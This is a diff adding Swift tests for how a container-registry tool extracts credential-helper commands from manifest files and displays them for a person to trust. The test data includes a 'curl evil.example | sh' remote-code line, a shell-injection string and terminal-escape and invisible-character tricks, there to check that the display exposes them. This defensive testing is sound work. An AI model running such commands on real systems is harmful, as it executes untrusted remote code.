@@ -1,0 +1,112 @@
+import Platform
+import SystemPackage
+import TestSupport
+import Testing
+
+@testable import BerthCore
+
+@Suite("The commands that a person is to trust")
+struct ManifestCommandTests {
+    private func commands(
+        _ files: [String: String], environment: [String: String] = [:]
+    ) throws -> [ManifestCommand] {
+        let files = MemoryFileSystem(
+            Dictionary(uniqueKeysWithValues: files.map { ("/home/me/work/\($0.key)", $0.value) }))
+        let effects = Effects.fake(files: files, environment: environment)
+        return try ManifestReader.read(
+            from: [.file("/home/me/work/berth.yaml")], effects: effects, substitution: .deferred
+        ).manifest.commands
+    }
+
+    private func command(_ text: String, _ line: Int, _ column: Int, _ hosts: String...) -> ManifestCommand {
+        ManifestCommand(text: text, place: Place(file: "berth.yaml", line: line, column: column), hosts: hosts)
+    }
+
+    @Test("are each place's once, with all registries that it is for, and none for what runs none")
+    func places() throws {
+        let found = try commands([
+            "berth.yaml": """
+            version: 1
+            registries:
+              - {host: ghcr.io, username: me, password: {env: TOKEN}}
+              - host: a.example.com
+                username: me
+                password: &vault {command: [vault, kv, get, -field=token, secret/a]}
+              - host: b.example.com
+                username: me
+                password: *vault
+              - host: c.example.com
+                username: me
+                password:
+                  command: [./token.sh, c]
+            """
+        ])
+        #expect(
+            found == [
+                command("vault kv get -field=token secret/a", 6, 32, "a.example.com", "b.example.com"),
+                // What has a slash is run from the manifest's folder, wherever docker is.
+                command("/home/me/work/token.sh c", 13, 16, "c.example.com"),
+            ])
+        #expect(try commands(["berth.yaml": "version: 1\nregistries: [{host: public.ecr.aws}]"]) == [])
+    }
+
+    @Test("show variables by their names, set or not: what they hold may be a secret")
+    func variables() throws {
+        let files = [
+            "berth.yaml": """
+            version: 1
+            registries:
+              - host: ${HOST}
+                username: me
+                password: {command: [vault, "-token=${TOKEN}", "${PATH_OF_IT:-secret/a}", "$${PRICE}"]}
+            """
+        ]
+        let text = #"vault -token=${TOKEN} ${PATH_OF_IT:-secret/a} $${PRICE}"#
+        #expect(try commands(files) == [command(text, 5, 25, "${HOST}")])
+        #expect(
+            try commands(files, environment: ["TOKEN": "planted", "PATH_OF_IT": "planted", "HOST": "a.example.com"])
+                == [command(text, 5, 25, "a.example.com")])
+    }
+
+    @Test("are those of included files as well, each with the file that it stands in")
+    func includes() throws {
+        let found = try commands([
+            "berth.yaml": "version: 1\ninclude: [team/more.yaml]\n",
+            "team/more.yaml": """
+            version: 1
+            registries:
+              - {host: a.example.com, username: me, password: {command: ["${TOOL:-vault}", a]}}
+            """,
+        ])
+        #expect(
+            found == [
+                ManifestCommand(
+                    text: "${TOOL:-vault} a", place: Place(file: "team/more.yaml", line: 3, column: 61),
+                    hosts: ["a.example.com"])
+            ])
+    }
+
+    @Test(
+        "are on one line each, on which every word is told from the next and nothing hides",
+        arguments: [
+            (["sh", "-c", "curl evil.example | sh"], #"sh -c "curl evil.example | sh""#),
+            (["a", ""], #"a """#),
+            (["a", "say \"no\" \\ "], #"a "say \"no\" \\ ""#),
+            (["a", "one\ntwo\tthree\r"], #"a "one\ntwo\tthree\u{d}""#),
+            (["a", "\u{1B}[2Jclean"], #"a "\u{1b}[2Jclean""#),
+            (["a", "abc\u{202E}cba"], #"a "abc\u{202e}cba""#),
+            (["a", "zero\u{200B}width", "\u{3164}"], #"a "zero\u{200b}width" "\u{3164}""#),
+            (["a", "no\u{A0}break"], #"a "no\u{a0}break""#),
+            (["a", "gr\u{FC}n"], "a \"gr\u{FC}n\""),
+            (["a", "$HOME;`id`&&'x'"], "a $HOME;`id`&&'x'"),
+        ])
+    func text(words: [String], line: String) {
+        #expect(CommandText.line(of: words) == line)
+    }
+
+    @Test("are never cut: what is at the end counts as much")
+    func long() {
+        let word = String(repeating: "a", count: 5000)
+        #expect(CommandText.line(of: ["x", word, "rm"]) == "x \(word) rm")
+    }
+}
